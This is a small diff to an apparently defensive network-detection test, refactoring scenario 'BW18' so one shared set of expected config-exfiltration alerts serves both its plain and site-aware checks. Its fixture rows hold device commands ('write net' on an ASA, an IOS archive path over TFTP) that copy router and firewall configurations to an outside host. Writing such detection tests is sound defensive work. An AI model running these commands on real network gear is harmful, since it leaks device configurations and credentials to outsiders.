@@ -84,14 +84,16 @@ SENDS = (
     (152, 5, "asa(config)# ", f"write net {OUTSIDE}:x.cfg", "x.cfg"),
     (153, 5, "R1(config-archive)#", f"path tftp://{OUTSIDE}/$h-$t", "$h-$t"),
 )
+ABROAD = tuple(Notice("Config_Exfiltration", f"10.0.1.{n}", OUTSIDE, f) for n, _, _, _, f in SENDS)
 
 
 @scenario(
     "BW18",
     "malicious",
     raises=[("BW18", sid, ATTACKER, f"10.0.1.{last}") for last, sid, *_ in SENDS],
+    plain=Expect(ABROAD),
     site=HQ,
-    with_site=Expect(tuple(Notice("Config_Exfiltration", f"10.0.1.{n}", OUTSIDE, f) for n, _, _, _, f in SENDS)),
+    with_site=Expect(ABROAD),
 )
 def bw18_words_of_others(wire: Wire) -> None:
     """Configurations sent across the border in the same vendors' words, and by IOS' archive at each write."""
